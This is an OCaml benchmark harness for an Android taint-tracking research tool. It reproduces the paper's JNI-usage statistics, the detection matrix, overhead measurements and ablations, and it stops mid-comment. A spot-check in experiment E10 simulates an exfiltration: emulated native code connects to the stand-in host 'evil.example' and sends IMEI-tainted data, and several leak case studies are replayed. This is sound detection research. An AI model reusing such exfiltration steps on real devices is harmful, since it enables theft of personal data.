(* Experiment harness: regenerates every table and figure of the paper's
   evaluation (see DESIGN.md's per-experiment index), plus the ablations
   and a Bechamel micro-benchmark suite (one Test.make per table/figure).

   Usage:
     dune exec bench/main.exe            # every experiment
     dune exec bench/main.exe e3 e8      # selected experiments
     dune exec bench/main.exe micro      # Bechamel micro-benchmarks only
*)

module Taint = Ndroid_taint.Taint
module Taint_map = Ndroid_taint.Taint_map
module Insn = Ndroid_arm.Insn
module Cpu = Ndroid_arm.Cpu
module Asm = Ndroid_arm.Asm
module Layout = Ndroid_emulator.Layout
module Machine = Ndroid_emulator.Machine
module Device = Ndroid_runtime.Device
module Vm = Ndroid_dalvik.Vm
module Dvalue = Ndroid_dalvik.Dvalue
module J = Ndroid_dalvik.Jbuilder
module B = Ndroid_dalvik.Bytecode
module A = Ndroid_android
module Ndroid = Ndroid_core.Ndroid
module Droidscope = Ndroid_core.Droidscope
module Insn_taint = Ndroid_core.Insn_taint
module Taint_engine = Ndroid_core.Taint_engine
module Taintdroid = Ndroid_taintdroid.Taintdroid
module Market = Ndroid_corpus.Market
module Stats = Ndroid_corpus.Stats
module H = Ndroid_apps.Harness
module Cases = Ndroid_apps.Cases
module CS = Ndroid_apps.Case_studies
module CF = Ndroid_apps.Cfbench

let section title = Printf.printf "\n=== %s ===\n%!" title
let now () = Unix.gettimeofday ()

(* median-of-n wall time with one warmup *)
let time_median ?(runs = 3) f =
  ignore (f ());
  let samples =
    List.init runs (fun _ ->
        let t0 = now () in
        ignore (f ());
        now () -. t0)
  in
  List.nth (List.sort compare samples) (runs / 2)

let geomean = function
  | [] -> nan
  | xs ->
    exp
      (List.fold_left (fun acc x -> acc +. log x) 0.0 xs
      /. float_of_int (List.length xs))

(* ------------------------------------------------------------------ E1 -- *)

let e1 () =
  section "E1: JNI-usage study, Sec. III headline numbers (227,911 apps)";
  let t0 = now () in
  let s = Stats.summarize (Market.generate Market.default_params) in
  Printf.printf "(classified %d apps in %.1fs)\n" s.Stats.total (now () -. t0);
  Format.printf "%a" Stats.pp_summary s;
  Printf.printf "\npaper vs measured:\n";
  let row name paper measured =
    Printf.printf "  %-28s paper=%-22s measured=%s\n" name paper measured
  in
  row "apps crawled" "227,911" (string_of_int s.Stats.total);
  row "Type I" "37,506 (16.46%)"
    (Printf.sprintf "%d (%.2f%%)" s.Stats.type1 s.Stats.type1_pct);
  row "Type I w/o libs" "4,034" (string_of_int s.Stats.type1_no_libs);
  row "  of which AdMob" "48.1%"
    (Printf.sprintf "%.1f%%" s.Stats.admob_pct_of_no_libs);
  row "Type II" "1,738" (string_of_int s.Stats.type2);
  row "Type II loadable" "394" (string_of_int s.Stats.type2_loadable);
  row "Type III" "16 (11 game, 5 ent.)"
    (Printf.sprintf "%d (%d game, %d ent.)" s.Stats.type3 s.Stats.type3_game
       s.Stats.type3_entertainment);
  (* the introduction's prevalence trend across published measurements *)
  Printf.printf "\nnative-code prevalence trend (Sec. I):\n";
  Printf.printf "  %-18s %-22s %-26s %10s %10s\n" "corpus" "crawled" "source"
    "published" "measured";
  List.iter
    (fun p ->
      let s = Stats.summarize (Market.generate (Market.of_preset p)) in
      Printf.printf "  %-18s %-22s %-26s %9.2f%% %9.2f%%\n" p.Market.p_name
        p.Market.p_when p.Market.p_source
        (float_of_int p.Market.p_type1_permille /. 10.0)
        s.Stats.type1_pct)
    Market.presets

(* ------------------------------------------------------------------ E2 -- *)

let e2 () =
  section "E2: Fig. 2 — Type I category distribution";
  let s = Stats.summarize (Market.generate Market.default_params) in
  Format.printf "%a" Stats.pp_fig2 s;
  Printf.printf "paper: Game 42%%; Music And Audio / Personalization 5%%; ";
  Printf.printf "Communication / Entertainment / Tools 4%%; long tail of 2-3%%\n"

(* ------------------------------------------------------------------ E3 -- *)

let e3 () =
  section "E3: Table I — detection matrix across JNI flow cases";
  Printf.printf "%-16s %-10s %-12s %-12s %-8s  %s\n" "app" "vanilla" "TaintDroid"
    "DroidScope" "NDroid" "paper (TaintDroid / NDroid)";
  let expected = function
    | "case1" -> "detect / detect"
    | _ -> "miss   / detect"
  in
  List.iter
    (fun app ->
      let d mode = if (H.run mode app).H.detected then "detect" else "miss" in
      Printf.printf "%-16s %-10s %-12s %-12s %-8s  %s\n%!" app.H.app_name
        (d H.Vanilla) (d H.Taintdroid_only) (d H.Droidscope_mode) (d H.Ndroid_full)
        (expected app.H.app_name))
    (Cases.all @ CS.all)

(* --------------------------------------------------------------- E4-E7 -- *)

let case_study title app show =
  section title;
  Printf.printf "%s\n" app.H.description;
  let o = H.run H.Ndroid_full app in
  Printf.printf "detected by NDroid: %b | by TaintDroid: %b\n" o.H.detected
    (H.run H.Taintdroid_only app).H.detected;
  List.iter
    (fun l -> Format.printf "  leak: %a@." A.Sink_monitor.pp_leak l)
    o.H.leaks;
  show o;
  Printf.printf "--- NDroid flow log ---\n";
  List.iter (fun l -> Printf.printf "  %s\n" l) o.H.flow_log

let clip s n = String.sub s 0 (min n (String.length s))

let e4 () =
  case_study "E4: QQPhoneBook 3.5 (Fig. 6, case 1')" CS.qq_phonebook (fun o ->
      List.iter
        (fun t ->
          Printf.printf "  sent to %s: %s\n" t.A.Network.dest
            (clip t.A.Network.payload 70))
        o.H.transmissions)

let e5 () =
  case_study "E5: ePhone 3.3 (Fig. 7, case 2)" CS.ephone (fun o ->
      List.iter
        (fun t ->
          Printf.printf "  sendto %s: %s\n" t.A.Network.dest
            (clip t.A.Network.payload 70))
        o.H.transmissions)

let e6 () =
  case_study "E6: PoC of case 2 (Fig. 8)" CS.poc_case2 (fun o ->
      Printf.printf "  /sdcard/CONTACTS: %S\n"
        (A.Filesystem.contents (Device.fs o.H.device) "/sdcard/CONTACTS"))

let e7 () =
  case_study "E7: PoC of case 3 (Fig. 9)" CS.poc_case3 (fun o ->
      List.iter
        (fun t -> Printf.printf "  sent to %s\n" t.A.Network.dest)
        o.H.transmissions)

(* ------------------------------------------------------------------ E8 -- *)

let fig10_paper =
  [ ("Native MIPS", 85.17); ("Java MIPS", 1.48); ("Native MSFLOPS", 16.62);
    ("Java MSFLOPS", 1.33); ("Native MDFLOPS", 10.37); ("Java MDFLOPS", 1.03);
    ("Native MALLOCS", 1.03); ("Native Memory Read", 49.86);
    ("Java Memory Read", 1.24); ("Native Memory Write", 49.83);
    ("Java Memory Write", 2.22); ("Native Disk Read", 1.05);
    ("Native Disk Write", 1.17) ]

let run_workload mode (w : CF.workload) ~iterations =
  let device = H.boot CF.app in
  CF.prepare device;
  (match mode with
   | H.Vanilla -> Taintdroid.vanilla device
   | H.Taintdroid_only -> ignore (Taintdroid.attach device)
   | H.Droidscope_mode -> ignore (Droidscope.attach device)
   | H.Ndroid_full -> ignore (Ndroid.attach device));
  time_median (fun () -> w.CF.w_run device ~iterations)

let e8 () =
  section "E8: Fig. 10 — CF-Bench overhead (slowdown vs vanilla)";
  Printf.printf "%-22s %10s %10s %10s   %s\n" "workload" "NDroid" "DroidScope"
    "TaintDroid" "paper NDroid";
  let iters_native = 12000 and iters_java = 40000 in
  let rows =
    List.map
      (fun (w : CF.workload) ->
        let iterations =
          match w.CF.w_kind with CF.Native -> iters_native | CF.Java -> iters_java
        in
        let v = run_workload H.Vanilla w ~iterations in
        let ratio mode = run_workload mode w ~iterations /. v in
        let nd = ratio H.Ndroid_full
        and ds = ratio H.Droidscope_mode
        and td = ratio H.Taintdroid_only in
        let paper =
          match List.assoc_opt w.CF.w_name fig10_paper with
          | Some p -> Printf.sprintf "%.2fx" p
          | None -> "-"
        in
        Printf.printf "%-22s %9.2fx %9.2fx %9.2fx   %s\n%!" w.CF.w_name nd ds td
          paper;
        (w.CF.w_kind, nd, ds))
      CF.workloads
  in
  let nd_of (_, nd, _) = nd and ds_of (_, _, ds) = ds in
  let native = List.filter (fun (k, _, _) -> k = CF.Native) rows
  and java = List.filter (fun (k, _, _) -> k = CF.Java) rows in
  Printf.printf "%-22s %9.2fx %9.2fx %10s   paper 12.08x\n"
    "Native Score (geomean)"
    (geomean (List.map nd_of native))
    (geomean (List.map ds_of native))
    "-";
  Printf.printf "%-22s %9.2fx %9.2fx %10s   paper 1.10x\n" "Java Score (geomean)"
    (geomean (List.map nd_of java))
    (geomean (List.map ds_of java))
    "-";
  Printf.printf "%-22s %9.2fx %9.2fx %10s   paper 5.45x / >= 11x\n"
    "Overall Score (geomean)"
    (geomean (List.map nd_of rows))
    (geomean (List.map ds_of rows))
    "-";
  Printf.printf
    "\nshape checks: NDroid(native) > NDroid(java): %b | DroidScope > NDroid \
     everywhere: %b\n"
    (geomean (List.map nd_of native) > geomean (List.map nd_of java))
    (List.for_all (fun r -> ds_of r > nd_of r) rows)

(* ------------------------------------------------------------------ E9 -- *)

let e9 () =
  section "E9: Table V — taint propagation logic verification";
  let t_a = Taint.imei and t_b = Taint.sms in
  let fresh () = (Taint_engine.create (), Cpu.create ()) in
  let verify name f =
    let ok = f () in
    Printf.printf "  %-26s %s\n" name (if ok then "VERIFIED" else "FAILED");
    ok
  in
  let checks =
    [ verify "binary-op Rd, Rn, Rm" (fun () ->
          let e, cpu = fresh () in
          Taint_engine.set_reg e 1 t_a;
          Taint_engine.set_reg e 2 t_b;
          Insn_taint.step e cpu ~addr:0 (Insn.add 0 1 (Insn.Reg 2));
          Taint.equal (Taint_engine.reg e 0) (Taint.union t_a t_b));
      verify "binary-op Rd, Rm" (fun () ->
          let e, cpu = fresh () in
          Taint_engine.set_reg e 0 t_a;
          Taint_engine.set_reg e 1 t_b;
          Insn_taint.step e cpu ~addr:0 (Insn.orr 0 0 (Insn.Reg 1));
          Taint.equal (Taint_engine.reg e 0) (Taint.union t_a t_b));
      verify "binary-op Rd, Rm, #imm" (fun () ->
          let e, cpu = fresh () in
          Taint_engine.set_reg e 1 t_a;
          Insn_taint.step e cpu ~addr:0 (Insn.sub 0 1 (Insn.Imm 3));
          Taint.equal (Taint_engine.reg e 0) t_a);
      verify "unary Rd, Rm" (fun () ->
          let e, cpu = fresh () in
          Taint_engine.set_reg e 1 t_a;
          Insn_taint.step e cpu ~addr:0 (Insn.mvn 0 (Insn.Reg 1));
          Taint.equal (Taint_engine.reg e 0) t_a);
      verify "mov Rd, #imm" (fun () ->
          let e, cpu = fresh () in
          Taint_engine.set_reg e 0 t_a;
          Insn_taint.step e cpu ~addr:0 (Insn.mov 0 (Insn.Imm 9));
          Taint.is_clear (Taint_engine.reg e 0));
      verify "mov Rd, Rm" (fun () ->
          let e, cpu = fresh () in
          Taint_engine.set_reg e 1 t_b;
          Insn_taint.step e cpu ~addr:0 (Insn.mov 0 (Insn.Reg 1));
          Taint.equal (Taint_engine.reg e 0) t_b);
      verify "LDR* (incl. t(Rn))" (fun () ->
          let e, cpu = fresh () in
          Cpu.set_reg cpu 1 0x5000;
          Taint_engine.set_mem e 0x5004 4 t_a;
          Taint_engine.set_reg e 1 t_b;
          Insn_taint.step e cpu ~addr:0 (Insn.ldr 0 1 4);
          Taint.equal (Taint_engine.reg e 0) (Taint.union t_a t_b));
      verify "LDM(POP)" (fun () ->
          let e, cpu = fresh () in
          Cpu.set_sp cpu 0x8000;
          Taint_engine.set_mem e 0x8000 4 t_a;
          Taint_engine.set_mem e 0x8004 4 t_b;
          Insn_taint.step e cpu ~addr:0 (Insn.pop [ 4; 5 ]);
          Taint.equal (Taint_engine.reg e 4) t_a
          && Taint.equal (Taint_engine.reg e 5) t_b);
      verify "STR*" (fun () ->
          let e, cpu = fresh () in
          Cpu.set_reg cpu 1 0x6000;
          Taint_engine.set_reg e 0 t_a;
          Insn_taint.step e cpu ~addr:0 (Insn.str 0 1 0);
          Taint.equal (Taint_engine.mem e 0x6000 4) t_a);
      verify "STM(PUSH)" (fun () ->
          let e, cpu = fresh () in
          Cpu.set_sp cpu 0x8000;
          Taint_engine.set_reg e 4 t_a;
          Insn_taint.step e cpu ~addr:0 (Insn.push [ 4 ]);
          Taint.equal (Taint_engine.mem e 0x7FFC 4) t_a) ]
  in
  Printf.printf "table rows verified: %d/%d\n"
    (List.length (List.filter Fun.id checks))
    (List.length checks);
  Printf.printf "\nTable V as implemented:\n";
  List.iter
    (fun (fmt, sem, rule) -> Printf.printf "  %-26s %-34s %s\n" fmt sem rule)
    Insn_taint.rules_table

(* ----------------------------------------------------------------- E10 -- *)

let e10 () =
  section "E10: Tables VI & VII — modeled functions and hooked calls";
  let device = Device.create () in
  let machine = Device.machine device in
  let mounted name =
    match Machine.host_fn_addr machine name with
    | _ -> true
    | exception Not_found -> false
  in
  let show title names =
    Printf.printf "%s (%d):\n " title (List.length names);
    List.iteri
      (fun i n ->
        if i > 0 && i mod 6 = 0 then Printf.printf "\n ";
        Printf.printf " %-12s%s" n (if mounted n then "" else "(MISSING)"))
      names;
    Printf.printf "\n"
  in
  show "Table VI libc (modeled taint summaries)" A.Syscalls.modeled_libc;
  show "Table VI libm" A.Syscalls.modeled_libm;
  show "Table VII hooked calls" A.Syscalls.hooked;
  Printf.printf "native-context sinks (* in Table VII): %s\n"
    (String.concat ", " A.Syscalls.sinks);
  (* behavioural spot-check: a tainted memcpy propagates, a tainted send is
     caught *)
  let nd = Ndroid.attach device in
  let engine = Ndroid.engine nd in
  let mem = Machine.mem machine in
  Ndroid_arm.Memory.write_cstring mem 0x30000000 "secret";
  Taint_engine.add_mem engine 0x30000000 7 Taint.imei;
  let memcpy = Machine.host_fn_addr machine "memcpy" in
  ignore
    (Machine.call_native machine ~addr:memcpy
       ~args:[ 0x30000100; 0x30000000; 7 ] ());
  Printf.printf "memcpy summary propagates taint: %b\n"
    (Taint.is_tainted (Taint_engine.mem engine 0x30000100 7));
  let sock = Machine.host_fn_addr machine "socket" in
  let fd, _ = Machine.call_native machine ~addr:sock ~args:[ 2; 1; 0 ] () in
  Ndroid_arm.Memory.write_cstring mem 0x30000200 "evil.example";
  let connect = Machine.host_fn_addr machine "connect" in
  ignore (Machine.call_native machine ~addr:connect ~args:[ fd; 0x30000200; 0 ] ());
  let send = Machine.host_fn_addr machine "send" in
  ignore (Machine.call_native machine ~addr:send ~args:[ fd; 0x30000100; 7; 0 ] ());
  Printf.printf "tainted send reported as leak: %b\n"
    (A.Sink_monitor.leak_count (Device.monitor device) > 0)

(* ------------------------------------------------------------------ A1 -- *)

let a1 () =
  section "A1 (ablation): hot-instruction decode cache (Sec. V-C)";
  let run cache_enabled =
    let device = H.boot CF.app in
    Taintdroid.vanilla device;
    Machine.set_icache_enabled (Device.machine device) cache_enabled;
    time_median (fun () ->
        (List.hd CF.workloads).CF.w_run device ~iterations:20000)
  in
  let with_cache = run true and without = run false in
  Printf.printf "native MIPS, cache on:  %.4fs\n" with_cache;
  Printf.printf "native MIPS, cache off: %.4fs\n" without;
  Printf.printf "speedup from caching: %.2fx\n" (without /. with_cache)

(* ------------------------------------------------------------------ A2 -- *)

(* an invoke-heavy Java workload: with multilevel hooking none of these
   interpreter entries is instrumented, without it all of them are *)
let a2_cls = "Lcom/bench/Invokes;"

let a2_app : H.app =
  { H.app_name = "invoke-heavy";
    app_case = "ablation";
    description = "Java method invocation churn";
    classes =
      [ J.class_ ~name:a2_cls
          [ J.method_ ~cls:a2_cls ~name:"leaf" ~shorty:"II" ~registers:4
              [ J.I (B.Binop_lit (B.Add, 0, 3, 1l)); J.I (B.Return 0) ];
            J.method_ ~cls:a2_cls ~name:"churn" ~shorty:"II" ~registers:6
              [ J.I (B.Const (0, Dvalue.Int 0l));
                J.L "loop";
                J.Ifz_l (B.Le, 5, "done");
                J.I
                  (B.Invoke (B.Static, { B.m_class = a2_cls; m_name = "leaf" },
                             [ 0 ]));
                J.I (B.Move_result 0);
                J.I (B.Binop_lit (B.Sub, 5, 5, 1l));
                J.Goto_l "loop";
                J.L "done";
                J.I (B.Return 0) ] ] ];
    build_libs = (fun _ -> []);
    entry = (a2_cls, "churn");
    expected_sink = "" }

let a2 () =
  section "A2 (ablation): multilevel hooking vs hooking every dvmInterpret";
  let run use_multilevel =
    let device = H.boot a2_app in
    let nd = Ndroid.attach ~use_multilevel device in
    let dt =
      time_median (fun () ->
          ignore
            (Device.run device a2_cls "churn"
               [| (Dvalue.Int 60000l, Taint.clear) |]))
    in
    (dt, Ndroid.stats nd)
  in
  let t_ml, s_ml = run true in
  let t_always, _ = run false in
  Printf.printf "multilevel hooking:           %.4fs (chain checks: %d)\n" t_ml
    s_ml.Ndroid.multilevel_checks;
  Printf.printf "hook every interpreter entry: %.4fs\n" t_always;
  Printf.printf "overhead avoided by multilevel hooking: %.1f%%\n"
    (100.0 *. (t_always -. t_ml) /. t_always)

(* ------------------------------------------------------------------ A3 -- *)

(* modeled memcpy vs a guest-code memcpy traced instruction by instruction *)
let a3_cls = "Lcom/bench/Copy;"

let a3_app : H.app =
  { H.app_name = "memcpy-heavy";
    app_case = "ablation";
    description = "copy loop, modeled vs traced";
    classes =
      [ J.class_ ~name:a3_cls
          [ J.native_method ~cls:a3_cls ~name:"copyModeled" ~shorty:"II"
              "copyModeled";
            J.native_method ~cls:a3_cls ~name:"copyTraced" ~shorty:"II"
              "copyTraced" ] ];
    build_libs =
      (fun extern ->
        let open Asm in
        let items =
          [ (* for n iterations: memcpy(dst, src, 64) through libc *)
            Label "copyModeled";
            I (Insn.push [ Insn.r4; Insn.lr ]);
            I (Insn.mov 4 (Insn.Reg 2));
            Label "cm_loop";
            La (0, "dstbuf");
            La (1, "srcbuf");
            I (Insn.mov 2 (Insn.Imm 64));
            Call "memcpy";
            I (Insn.subs 4 4 (Insn.Imm 1));
            Br (Insn.NE, "cm_loop");
            I (Insn.mov 0 (Insn.Imm 0));
            I (Insn.pop [ Insn.r4; Insn.pc ]);
            (* same copy as a guest-code word loop (traced per insn) *)
            Label "copyTraced";
            I (Insn.push [ Insn.r4; Insn.lr ]);
            I (Insn.mov 4 (Insn.Reg 2));
            Label "ct_outer";
            La (0, "dstbuf");
            La (1, "srcbuf");
            I (Insn.mov 2 (Insn.Imm 16));
            Label "ct_inner";
            I (Insn.ldr 3 1 0);
            I (Insn.str 3 0 0);
            I (Insn.add 0 0 (Insn.Imm 4));
            I (Insn.add 1 1 (Insn.Imm 4));
            I (Insn.subs 2 2 (Insn.Imm 1));
            Br (Insn.NE, "ct_inner");
            I (Insn.subs 4 4 (Insn.Imm 1));
            Br (Insn.NE, "ct_outer");
            I (Insn.mov 0 (Insn.Imm 0));
            I (Insn.pop [ Insn.r4; Insn.pc ]);
            Align4;
            Label "srcbuf" ]
          @ List.init 16 (fun _ -> Word 0x61626364)
          @ [ Label "dstbuf" ]
          @ List.init 16 (fun _ -> Word 0)
        in
        [ ("copybench", assemble ~extern ~base:Layout.app_lib_base items) ]);
    entry = (a3_cls, "copyModeled");
    expected_sink = "" }

let a3 () =
  section "A3 (ablation): libc summaries vs per-instruction tracing (Sec. V-D)";
  let run name =
    let device = H.boot a3_app in
    (* isolate instrumentation cost: no baseline body charge *)
    Machine.set_host_fn_work (Device.machine device) 0;
    ignore (Ndroid.attach device);
    time_median (fun () ->
        ignore
          (Device.run device a3_cls name [| (Dvalue.Int 4000l, Taint.clear) |]))
  in
  let modeled = run "copyModeled" and traced = run "copyTraced" in
  Printf.printf "64-byte copy via modeled memcpy:     %.4fs\n" modeled;
  Printf.printf "64-byte copy via traced guest loop:  %.4fs\n" traced;
  Printf.printf "summary speedup: %.2fx\n" (traced /. modeled)

(* ----------------------------------------------------------------- E11 -- *)

let e11 () =
  section "E11: input generation (Sec. VI — why Monkeyrunner missed leaks)";
  let module M = Ndroid_apps.Monkey in
  Printf.printf "%s\n" M.gated_app.M.app.H.description;
  let seeds = 20 and events = 60 in
  let found =
    M.discovery_rate ~seeds ~events ~mode:H.Ndroid_full M.gated_app
  in
  Printf.printf "random monkey (%d seeds x %d events): leak triggered in %d/%d runs\n"
    seeds events found seeds;
  let scripted =
    M.drive_script ~script:M.gated_script ~mode:H.Ndroid_full M.gated_app
  in
  Printf.printf "directed input %s: leak triggered = %b\n"
    (String.concat " -> " M.gated_script)
    scripted.M.leaked;
  List.iter
    (fun l -> Format.printf "  leak: %a@." A.Sink_monitor.pp_leak l)
    scripted.M.outcome_leaks;
  Printf.printf
    "paper: random input over 37,506 apps surfaced one leaking app; manual \
     input over 8 apps surfaced three more\n"

(* ---------------------------------------------------------------- E14 -- *)

let e14 () =
  section "E14: Sec. III 'Library Distribution' analysis";
  let entries =
    Stats.library_distribution (Market.generate (Market.scaled 50_000))
  in
  Format.printf "%a" Stats.pp_library_distribution entries;
  Printf.printf
    "paper: most libraries from game-engine companies (Unity, Libgdx,      Box2D); many video/audio; NDK/system libraries bundled for      compatibility\n"

(* ---------------------------------------------------------------- E13 -- *)

let e13 () =
  section "E13: Sec. VI manual-input batch (8 apps)";
  Printf.printf
    "paper: 3 of 8 apps delivered contact/SMS data to native code; 1 \
     (ePhone3.3) leaked it\n\n";
  Printf.printf "%-18s %-22s %s\n" "app" "delivered to native" "leaked";
  let vs = Ndroid_apps.Sec6_batch.summary () in
  List.iter
    (fun v ->
      Printf.printf "%-18s %-22b %b\n" v.Ndroid_apps.Sec6_batch.v_app
        v.Ndroid_apps.Sec6_batch.delivered_to_native
        v.Ndroid_apps.Sec6_batch.leaked)
    vs;
  let delivered =
    List.length (List.filter (fun v -> v.Ndroid_apps.Sec6_batch.delivered_to_native) vs)
  and leaked =
    List.length (List.filter (fun v -> v.Ndroid_apps.Sec6_batch.leaked) vs)
  in
  Printf.printf "\nmeasured: %d/8 delivered, %d/8 leaked (paper: 3 and 1)\n"
    delivered leaked

(* ----------------------------------------------------------------- E12 -- *)

let e12 () =
  section "E12: control-flow evasion (Sec. VII limitation, negative result)";
  let missed, payload = Ndroid_apps.Evasion.run_and_confirm_miss () in
  Printf.printf "%s\n" Ndroid_apps.Evasion.app.H.description;
  Printf.printf "data left the device: %s\n"
    (match payload with Some p -> Printf.sprintf "yes (%S)" p | None -> "no");
  Printf.printf "NDroid missed it: %b (expected: true — no control-flow taint)\n"
    missed

(* ---------------------------------------------------------------- perf -- *)

(* Native hot-path throughput: instructions/sec through the traced
   (NDroid-attached) machine on the E8 native workloads, plus taint-map
   operation throughput.  Writes BENCH_native.json so successive PRs can
   track the trajectory of the per-instruction trace loop. *)

let perf_iterations = 12000

let perf_measure_workload device machine (w : CF.workload) =
  (* one warmup run populates the decode cache, memory pages and policies *)
  w.CF.w_run device ~iterations:perf_iterations;
  let c0 = Machine.insn_count machine in
  let t0 = now () in
  let reps = ref 0 in
  while now () -. t0 < 0.35 && !reps < 400 do
    w.CF.w_run device ~iterations:perf_iterations;
    incr reps
  done;
  let dt = now () -. t0 in
  (Machine.insn_count machine - c0, dt)

let perf_taint_ops () =
  (* mixed range-op churn: the operation profile of the modeled libc
     summaries (memcpy/memset/strcpy) plus per-insn loads and stores *)
  let m = Taint_map.create () in
  let ops = ref 0 in
  let t0 = now () in
  for _round = 0 to 49 do
    for i = 0 to 63 do
      let base = 0x30000000 + (i * 256) in
      Taint_map.set_range m base 64 Taint.imei;
      Taint_map.add_range m (base + 32) 64 Taint.sms;
      ignore (Taint_map.get_range m base 128);
      Taint_map.copy_range m ~src:base ~dst:(base + 0x10000) ~len:64;
      Taint_map.clear_range m base 128;
      ops := !ops + 5
    done
  done;
  let dirty_dt = now () -. t0 in
  (* the dominant case in practice: lookups against a fully clear map *)
  Taint_map.reset m;
  let probes = 2_000_000 in
  let t1 = now () in
  for i = 0 to probes - 1 do
    ignore (Taint_map.get_range m (0x30000000 + (i land 0xFFFF)) 4)
  done;
  let clear_dt = now () -. t1 in
  (float_of_int !ops /. dirty_dt, float_of_int probes /. clear_dt)

let perf () =
  section "PERF: native hot-path throughput (NDroid-attached E8 configuration)";
  let device = H.boot CF.app in
  CF.prepare device;
  ignore (Ndroid.attach device);
  let machine = Device.machine device in
  (* isolate the trace loop from the simulated library-body charge (as A3) *)
  Machine.set_host_fn_work machine 0;
  let native = List.filter (fun w -> w.CF.w_kind = CF.Native) CF.workloads in
  Printf.printf "%-22s %14s %10s %14s\n" "workload" "insns" "seconds"
    "insns/sec";
  let rows =
    List.map
      (fun (w : CF.workload) ->
        let insns, dt = perf_measure_workload device machine w in
        let ips = float_of_int insns /. dt in
        Printf.printf "%-22s %14d %10.4f %14.0f\n%!" w.CF.w_name insns dt ips;
        (w.CF.w_name, insns, dt, ips))
      native
  in
  let total_insns = List.fold_left (fun a (_, i, _, _) -> a + i) 0 rows in
  let total_dt = List.fold_left (fun a (_, _, d, _) -> a +. d) 0.0 rows in
  let agg = float_of_int total_insns /. total_dt in
  Printf.printf "%-22s %14d %10.4f %14.0f\n" "TOTAL" total_insns total_dt agg;
  let taint_ops, clear_probes = perf_taint_ops () in
  let hits, misses = Machine.icache_stats machine in
  Printf.printf "taint range ops/sec:     %14.0f\n" taint_ops;
  Printf.printf "clear-map get_range/sec: %14.0f\n" clear_probes;
  Printf.printf "icache hits/misses:      %d/%d\n" hits misses;
  let oc = open_out "BENCH_native.json" in
  Printf.fprintf oc "{\n  \"experiment\": \"perf\",\n";
  Printf.fprintf oc "  \"iterations_per_run\": %d,\n" perf_iterations;
  Printf.fprintf oc "  \"workloads\": [\n";
  List.iteri
    (fun i (name, insns, dt, ips) ->
      Printf.fprintf oc
        "    {\"name\": %S, \"insns\": %d, \"seconds\": %.6f, \
         \"insns_per_sec\": %.0f}%s\n"
        name insns dt ips
        (if i = List.length rows - 1 then "" else ","))
    rows;
  Printf.fprintf oc "  ],\n";
  Printf.fprintf oc "  \"total_insns\": %d,\n" total_insns;
  Printf.fprintf oc "  \"total_seconds\": %.6f,\n" total_dt;
  Printf.fprintf oc "  \"insns_per_sec\": %.0f,\n" agg;
  Printf.fprintf oc "  \"taint_range_ops_per_sec\": %.0f,\n" taint_ops;
  Printf.fprintf oc "  \"clear_map_get_range_per_sec\": %.0f,\n" clear_probes;
  Printf.fprintf oc "  \"icache_hits\": %d,\n" hits;
  Printf.fprintf oc "  \"icache_misses\": %d\n}\n" misses;
  close_out oc;
  Printf.printf "wrote BENCH_native.json\n"

(* ----------------------------------------------------------- STATIC -- *)

module St_analyzer = Ndroid_static.Analyzer
module St_drive = Ndroid_static.Drive
module St_report = Ndroid_static.Report
module Apk = Ndroid_corpus.Apk

let static_registry () = Ndroid_apps.Registry.all

(* Workers for the sharded sweeps; set with `--jobs N`. *)
let jobs_flag = ref 4

module Task = Ndroid_pipeline.Task
module Engine = Ndroid_pipeline.Engine
module Pool = Ndroid_pipeline.Pool
module P_cache = Ndroid_pipeline.Cache
module Server = Ndroid_pipeline.Server
module Proto = Ndroid_pipeline.Proto
module Stream = Ndroid_obs.Stream
module Rj = Ndroid_report.Json
module Verdict = Ndroid_report.Verdict

(* Sweep a market slice through the pipeline and return reports in id
   order — sequential in-process at jobs=1, forked pool beyond. *)
let sweep_slice ~jobs params =
  let tasks = Task.of_market_slice params in
  if jobs <= 1 then (Pool.run_inline tasks, None)
  else
    let reports, stats = Pool.run (Pool.config ~jobs ()) tasks in
    (reports, Some stats)

let static () =
  section "STATIC: dex+native supergraph analysis vs. dynamic NDroid (E3 apps)";
  let apps = static_registry () in
  Printf.printf "%-22s %-8s %-8s %s\n" "app" "dynamic" "static" "agreement";
  let rows =
    List.map
      (fun (app : H.app) ->
        let dynamic = (H.run H.Ndroid_full app).H.detected in
        let v = St_drive.verdict_of_app app in
        let static_flag =
          if app.H.expected_sink = "" then St_analyzer.flagged v
          else St_analyzer.flagged_at v app.H.expected_sink
        in
        let agreement =
          match (dynamic, static_flag) with
          | true, true -> "both detect"
          | false, false -> "both clean"
          | true, false -> "STATIC FALSE NEGATIVE"
          | false, true -> "static-only (dynamic blind spot)"
        in
        Printf.printf "%-22s %-8s %-8s %s\n%!" app.H.app_name
          (if dynamic then "detect" else "miss")
          (if static_flag then "flag" else "clean")
          agreement;
        (app, dynamic, static_flag, v))
      apps
  in
  let false_negs =
    List.filter (fun (_, dyn, st, _) -> dyn && not st) rows
  in
  let evasion_flagged =
    List.exists
      (fun ((app : H.app), _, st, _) ->
        app.H.app_name = Ndroid_apps.Evasion.app.H.app_name && st)
      rows
  in
  let static_only =
    List.filter (fun (_, dyn, st, _) -> st && not dyn) rows
  in
  Printf.printf "static false negatives: %d\n" (List.length false_negs);
  Printf.printf "control-flow evasion app statically flagged: %b\n"
    evasion_flagged;
  (* market triage: how much of a 1,200-app slice can static analysis prune
     before any dynamic run, and at what throughput? *)
  let slice = 1200 in
  let jobs = !jobs_flag in
  Printf.printf "\ntriaging a %d-app market slice (--jobs %d)...\n%!" slice
    jobs;
  let params = Market.scaled slice in
  let total = ref 0 and flagged = ref 0 in
  let leaky_total = ref 0 and leaky_flagged = ref 0 in
  let clean_flagged = ref 0 in
  let t0 = now () in
  let reports, _stats = sweep_slice ~jobs params in
  Seq.iteri
    (fun i model ->
      incr total;
      let leaky = Market.app_is_leaky model in
      if leaky then incr leaky_total;
      if Verdict.flagged reports.(i).Verdict.r_verdict then begin
        incr flagged;
        if leaky then incr leaky_flagged else incr clean_flagged
      end)
    (Market.generate params);
  let dt = now () -. t0 in
  let apps_per_sec = float_of_int !total /. dt in
  let pruned = !total - !flagged in
  let pruned_frac = float_of_int pruned /. float_of_int !total in
  let market_fn = !leaky_total - !leaky_flagged in
  Printf.printf "market slice:     %d apps in %.2fs (%.1f apps/sec)\n" !total dt
    apps_per_sec;
  Printf.printf "statically flagged: %d (%d known-leaky, %d over-approx)\n"
    !flagged !leaky_flagged !clean_flagged;
  Printf.printf "pruned for triage:  %d (%.1f%% of the slice)\n" pruned
    (100.0 *. pruned_frac);
  Printf.printf "leaky apps missed:  %d of %d\n" market_fn !leaky_total;
  (* hybrid: static triage first, focused dynamic only on the flagged
     residue.  Sweep the same slice under --both and --hybrid and demand
